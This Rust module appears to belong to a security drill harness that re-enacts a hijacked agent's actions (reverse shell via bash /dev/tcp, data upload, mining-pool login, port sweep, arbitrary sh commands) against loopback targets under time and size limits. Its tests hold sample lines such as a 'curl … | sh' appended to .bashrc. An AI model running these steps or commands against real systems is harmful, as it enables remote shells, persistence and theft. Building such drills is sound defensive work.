//! Attack steps for drills: what a hijacked agent does, re-enacted for real but safely. Every
//! step is bounded in time and size, and the harness points it at loopback targets and private
//! mounts it set up itself (see `drill::fixtures`). The same steps run live and when a drill's
//! trace is recorded, so a replay sees what a live run does.
//!
//! Steps: `mark:NAME` (names the drill in the exec record, does nothing), `append:PATH:TEXT`
//! (appends a line, creating the file), `copy:FROM:TO`, `send:HOST:PORT:SIZE` (one connection
//! that uploads SIZE bytes, `K`/`M` suffixes, at most 64M), `burn:MS` (CPU busy loop, at most
//! 10 s), `stratum:HOST:PORT` (a mining client's subscribe and login), `revshell:HOST:PORT`
//! (`bash -i` with its standard streams on a TCP connection, killed after 5 s), `sh:COMMAND`
//! (`/bin/sh -c COMMAND`, killed after 10 s; the command is the rest of the argument),
//! `sweep:A.B.C.FROM-TO:PORT` (one connect to each address of the range, loopback only),
//! `netns` (the rest of the steps run in a new, empty network namespace) and
//! `check-connect:HOST:PORT:ok|eperm` (one connect; fails unless the outcome is the one named).

use std::{
    fs,
    io::{Read as _, Write as _},
    net::{SocketAddr, TcpStream, ToSocketAddrs},
    process::{Child, Command, Stdio},
    time::{Duration, Instant},
};

use anyhow::{Context as _, anyhow, bail};

/// Largest upload of `send`.
const MAX_SEND: u64 = 64 << 20;
/// Longest CPU burn.
const MAX_BURN_MS: u64 = 10_000;
/// How long a reverse shell may live.
const REVSHELL_LIMIT: Duration = Duration::from_secs(5);
/// How long a `sh:` command may run.
const SHELL_LIMIT: Duration = Duration::from_secs(10);

#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Attack {
    Mark(String),
    Append(String, String),
    Copy(String, String),
    Send(String, u64),
    Burn(u64),
    Stratum(String),
    Revshell(String),
    Shell(String),
    Netns,
    CheckConnect(String, bool),
    Sweep([u8; 3], u8, u8, u16),
}

/// Parses an attack step; `None` when `op` is not one.
pub fn parse(op: &str, arg: &str) -> Option<anyhow::Result<Attack>> {
    let step = format!("{op}:{arg}");
    let two = |what: &str| {
        arg.split_once(':')
            .map(|(a, b)| (a.to_owned(), b.to_owned()))
            .ok_or_else(|| anyhow!("step {step:?}: {what}"))
    };
    Some(match op {
        "mark" => Ok(Attack::Mark(arg.into())),
        "append" => two("append:PATH:TEXT").map(|(p, t)| Attack::Append(p, t)),
        "copy" => two("copy:FROM:TO").map(|(a, b)| Attack::Copy(a, b)),
        "send" => arg
            .rsplit_once(':')
            .ok_or_else(|| anyhow!("step {step:?}: send:HOST:PORT:SIZE"))
            .and_then(|(addr, size)| {
                let n = size_arg(size).with_context(|| format!("step {step:?}"))?;
                if n > MAX_SEND {
                    bail!("step {step:?}: at most {MAX_SEND} bytes");
                }
                Ok(Attack::Send(addr.into(), n))
            }),
        "burn" => arg
            .parse::<u64>()
            .map_err(|_| anyhow!("step {step:?}: burn:MS"))
            .and_then(|ms| {
                if ms > MAX_BURN_MS {
                    bail!("step {step:?}: at most {MAX_BURN_MS} ms");
                }
                Ok(Attack::Burn(ms))
            }),
        "stratum" => Ok(Attack::Stratum(arg.into())),
        "revshell" => Ok(Attack::Revshell(arg.into())),
        "sh" if !arg.is_empty() => Ok(Attack::Shell(arg.into())),
        "sh" => Err(anyhow!("step {step:?}: sh:COMMAND")),
        "netns" => Ok(Attack::Netns),
        "sweep" => sweep_arg(arg).ok_or_else(|| anyhow!("step {step:?}: sweep:A.B.C.FROM-TO:PORT")),
        "check-connect" => arg
            .rsplit_once(':')
            .and_then(|(addr, want)| match want {
                "ok" => Some(Attack::CheckConnect(addr.into(), true)),
                "eperm" => Some(Attack::CheckConnect(addr.into(), false)),
                _ => None,
            })
            .ok_or_else(|| anyhow!("step {step:?}: check-connect:HOST:PORT:ok|eperm")),
        _ => return None,
    })
}

fn sweep_arg(arg: &str) -> Option<Attack> {
    let (range, port) = arg.rsplit_once(':')?;
    let (net, last) = range.rsplit_once('.')?;
    let (from, to) = last.split_once('-')?;
    let octets: Vec<u8> = net
        .split('.')
        .map(|o| o.parse().ok())
        .collect::<Option<_>>()?;
    let net: [u8; 3] = octets.try_into().ok()?;
    let (from, to) = (from.parse().ok()?, to.parse().ok()?);
    (from <= to).then_some(Attack::Sweep(net, from, to, port.parse().ok()?))
}

/// Attack traffic stays on this host.
fn loopback(addr: SocketAddr) -> anyhow::Result<SocketAddr> {
    if !addr.ip().is_loopback() {
        bail!("{addr} is not a loopback address: drills only attack loopback targets");
    }
    Ok(addr)
}

fn size_arg(s: &str) -> anyhow::Result<u64> {
    let (num, mult) = match s.as_bytes().last() {
        Some(b'K') => (&s[..s.len() - 1], 1 << 10),
        Some(b'M') => (&s[..s.len() - 1], 1 << 20),
        _ => (s, 1),
    };
    Ok(num.parse::<u64>().context("bad size")? * mult)
}

fn resolve(addr: &str) -> anyhow::Result<SocketAddr> {
    addr.to_socket_addrs()?
        .next()
        .ok_or_else(|| anyhow!("{addr} resolves to nothing"))
}

pub fn run(step: &Attack) -> anyhow::Result<()> {
    match step {
        Attack::Mark(_) => {}
        Attack::Append(path, text) => {
            fs::OpenOptions::new()
                .create(true)
                .append(true)
                .open(path)
                .and_then(|mut f| f.write_all(format!("{text}\n").as_bytes()))
                .with_context(|| format!("appending to {path}"))?;
        }
        Attack::Copy(from, to) => {
            fs::copy(from, to).with_context(|| format!("copying {from} to {to}"))?;
        }
        Attack::Send(addr, size) => {
            let mut s =
                TcpStream::connect_timeout(&loopback(resolve(addr)?)?, Duration::from_secs(2))?;
            s.set_write_timeout(Some(Duration::from_secs(10)))?;
            let chunk: Vec<u8> = (0..64 * 1024).map(|i| (i % 251) as u8).collect();
            let mut left = *size;
            while left > 0 {
                let n = left.min(chunk.len() as u64) as usize;
                s.write_all(&chunk[..n])?;
                left -= n as u64;
            }
            s.shutdown(std::net::Shutdown::Write)?;
            // Wait for the receiver to finish reading, so the bytes are on the wire.
            s.set_read_timeout(Some(Duration::from_secs(2)))?;
            let _ = s.read(&mut [0u8; 16]);
        }
        Attack::Burn(ms) => {
            let end = Instant::now() + Duration::from_millis(*ms);
            let mut x: u64 = 0x9e37_79b9;
            while Instant::now() < end {
                for _ in 0..10_000 {
                    x = std::hint::black_box(x.rotate_left(5) ^ x.wrapping_mul(31));
                }
            }
        }
        Attack::Stratum(addr) => {
            let mut s =
                TcpStream::connect_timeout(&loopback(resolve(addr)?)?, Duration::from_secs(2))?;
            s.set_read_timeout(Some(Duration::from_secs(2)))?;
            s.write_all(
                b"{\"id\":1,\"jsonrpc\":\"2.0\",\"method\":\"mining.subscribe\",\"params\":[\"drill-miner/1.0\"]}\n\
                  {\"id\":2,\"jsonrpc\":\"2.0\",\"method\":\"login\",\"params\":{\"login\":\"drill-wallet\",\"pass\":\"x\",\"agent\":\"drill-miner/1.0\"}}\n",
            )?;
            let _ = s.read(&mut [0u8; 512]);
        }
        Attack::Revshell(addr) => {
            let a = loopback(resolve(addr)?)?;
            let cmd = format!("bash -i >& /dev/tcp/{}/{} 0>&1", a.ip(), a.port());
            let child = Command::new("/bin/bash").arg("-c").arg(cmd).spawn()?;
            bounded(child, REVSHELL_LIMIT)?;
        }
        Attack::Shell(command) => {
            let child = Command::new("/bin/sh")
                .arg("-c")
                .arg(command)
                .stdout(Stdio::null())
                .spawn()?;
            bounded(child, SHELL_LIMIT)?;
        }
        Attack::Sweep(net, from, to, port) => {
            for last in *from..=*to {
                let ip = std::net::Ipv4Addr::new(net[0], net[1], net[2], last);
                let addr = loopback(SocketAddr::from((ip, *port)))?;
                let _ = TcpStream::connect_timeout(&addr, Duration::from_millis(200));
            }
        }
        Attack::Netns => {
            nix::sched::unshare(nix::sched::CloneFlags::CLONE_NEWNET)
                .context("unsharing the network namespace")?;
        }
        Attack::CheckConnect(addr, want_ok) => {
            let got = TcpStream::connect_timeout(&resolve(addr)?, Duration::from_millis(500));
            let outcome = match &got {
                Ok(_) => "ok".to_owned(),
                Err(e) if e.raw_os_error() == Some(libc::EPERM) => "eperm".to_owned(),
                Err(e) => e.to_string(),
            };
            println!("connect {addr}: {outcome}");
            let matched = if *want_ok {
                got.is_ok()
            } else {
                outcome == "eperm"
            };
            if !matched {
                bail!(
                    "connect to {addr}: {outcome}, expected {}",
                    if *want_ok { "ok" } else { "EPERM" }
                );
            }
        }
    }
    Ok(())
}

/// Waits for `child`, killing it once `limit` has passed.
fn bounded(mut child: Child, limit: Duration) -> anyhow::Result<()> {
    let end = Instant::now() + limit;
    loop {
        if child.try_wait()?.is_some() {
            return Ok(());
        }
        if Instant::now() >= end {
            let _ = child.kill();
            let _ = child.wait();
            return Ok(());
        }
        std::thread::sleep(Duration::from_millis(10));
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn p(s: &str) -> anyhow::Result<Attack> {
        let (op, arg) = s.split_once(':').unwrap_or((s, ""));
        parse(op, arg).unwrap_or_else(|| Err(anyhow!("not an attack step")))
    }

    #[test]
    fn parses_attack_steps() {
        assert_eq!(
            p("append:/x/.bashrc:curl http://a:1 | sh").unwrap(),
            Attack::Append("/x/.bashrc".into(), "curl http://a:1 | sh".into())
        );
        assert_eq!(
            p("send:127.0.0.2:9000:16M").unwrap(),
            Attack::Send("127.0.0.2:9000".into(), 16 << 20)
        );
        assert!(p("send:127.0.0.2:9000:1000M").is_err());
        assert!(p("burn:60000").is_err());
        assert_eq!(
            p("sh:curl -fsS http://127.0.0.1:80/x | sh").unwrap(),
            Attack::Shell("curl -fsS http://127.0.0.1:80/x | sh".into())
        );
        assert_eq!(
            p("check-connect:127.0.0.1:80:eperm").unwrap(),
            Attack::CheckConnect("127.0.0.1:80".into(), false)
        );
        assert!(p("check-connect:127.0.0.1:80:maybe").is_err());
        assert_eq!(p("netns").unwrap(), Attack::Netns);
        assert_eq!(
            p("sweep:127.0.0.1-80:22").unwrap(),
            Attack::Sweep([127, 0, 0], 1, 80, 22)
        );
        assert!(run(&Attack::Sweep([10, 0, 0], 1, 2, 22)).is_err());
        assert!(run(&Attack::Send("192.0.2.1:80".into(), 1)).is_err());
        assert!(parse("bogus", "").is_none());
    }

    #[test]
    fn append_copy_and_send_do_what_they_say() {
        let dir = tempfile::tempdir().unwrap();
        let f = dir.path().join("rc");
        let fs_ = f.display().to_string();
        run(&Attack::Append(fs_.clone(), "one".into())).unwrap();
        run(&Attack::Append(fs_.clone(), "two".into())).unwrap();
        assert_eq!(fs::read_to_string(&f).unwrap(), "one\ntwo\n");
        let g = dir.path().join("copy");
        run(&Attack::Copy(fs_, g.display().to_string())).unwrap();
        assert_eq!(fs::read(&g).unwrap().len(), 8);

        let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        let addr = listener.local_addr().unwrap();
        let reader = std::thread::spawn(move || {
            let (mut c, _) = listener.accept().unwrap();
            let mut buf = Vec::new();
            c.read_to_end(&mut buf).unwrap();
            buf.len()
        });
        run(&Attack::Send(addr.to_string(), 300_000)).unwrap();
        assert_eq!(reader.join().unwrap(), 300_000);
    }
}
